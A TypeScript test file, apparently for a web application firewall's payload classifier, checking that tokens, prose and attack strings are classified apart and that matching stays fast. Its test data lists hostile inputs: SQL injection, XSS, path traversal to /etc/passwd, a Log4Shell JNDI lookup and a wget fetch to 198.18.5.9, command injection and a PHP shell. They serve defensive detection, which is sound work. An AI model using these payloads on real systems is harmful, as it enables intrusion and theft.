import assert from 'node:assert/strict';
import { test } from 'node:test';
import { markedPieces } from '../../../models/waf/example.ts';
import { payloadLook } from '../../../models/waf/payload.ts';

const kindOf = (text: string): string => {
  const look = payloadLook(text);
  const [best] = Object.entries(look).sort(([, a], [, b]) => b - a);
  return best === undefined || best[1] < 0.5 ? 'nothing' : best[0];
};

test('tokens, prose and attacks are told apart', () => {
  for (const [kind, text] of [
    // credentials
    ['credential', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbm5hIn0.c2lnbmF0dXJl'],
    ['credential', '2doX0fzoyGZacAp4tL8iKLAcr5pxECPe7mko1ZaCev7uYFEwGAdl4FdN-XoOBFP0ZeRYmSBdsGR2l--pqr_i2DOOaYFKz3f7'],
    ['credential', 'dXNlcj1hbm5hQGV4YW1wbGUub3JnAWF1dGg9QmVhcmVyIHlhMjkuLi4BAQ=='],
    ['credential', 'user=anna@example.org\u0001auth=Bearer ya29.vF9dft4qmTc2Nvb3RlckBhdHRhdmlzdGEuY29tCg\u0001\u0001'],
    ['credential', 'Bearer ya29--vF9dft4qmTc2Nvb3RlckBhdHRh'],
    ['credential', '[secret:64-255:AbCdEfGhIj]'],
    ['credential', 'd41d8cd98f00b204e9800998ecf8427e'],
    // what people write
    ['prose', 'Please select the files from the folder and drop me a line when the union has met'],
    ['prose', 'anna.kowalska@example.org'],
    ['prose', "It's five o'clock, and nobody's here; we'll go on tomorrow"],
    // attacks
    ['attack', "1' OR 1=1-- -"],
    ['attack', "x' or 'a'='a"],
    ['attack', '1 UNION SELECT user,password FROM users'],
    ['attack', '1;DROP TABLE users'],
    ['attack', '<script>alert(1)</script>'],
    ['attack', '%3Csvg%20onload%3Dalert(1)%3E'],
    ['attack', '../../../../etc/passwd'],
    ['attack', '\u0024{jndi:ldap://198.18.5.9/a}'],
    ['attack', '; cat /etc/passwd'],
    ['attack', '$(wget http://198.18.5.9/x)'],
    ['attack', "<?php system('id'); ?>"],
    ['attack', 'sqlmap/1.5'],
    // neither
    ['nothing', ''],
    ['nothing', 'action=login'],
    ['nothing', '403'],
  ] as const)
    assert.equal(kindOf(text), kind, text);
});

test('hostile values take linear time', () => {
  for (const piece of ['<a ', "' or ", '%', '../', 'union ', '{{', '<!DOCTYPE ', 'a@', '$('])
    for (const length of [1000, 100_000]) {
      const value = piece.repeat(length);
      const before = process.cpuUsage(); // wall time also counts what others do
      payloadLook(value);
      assert.ok(process.cpuUsage(before).user < 500_000, `${piece} ${length}`);
    }
});

test('what matched is marked', () => {
  assert.deepEqual(markedPieces('a--b', '--'), [
    { text: 'a', matched: false },
    { text: '--', matched: true },
    { text: 'b', matched: false },
  ]);
  assert.deepEqual(markedPieces('abc', null), [{ text: 'abc', matched: true }]);
  assert.deepEqual(markedPieces("1' OR 1=1", 's&1c'), [{ text: "1' OR 1=1", matched: true }]); // a fingerprint of libinjection
  assert.deepEqual(markedPieces(null, '--'), [{ text: '--', matched: true }]);
  assert.deepEqual(markedPieces(null, null), []);
});
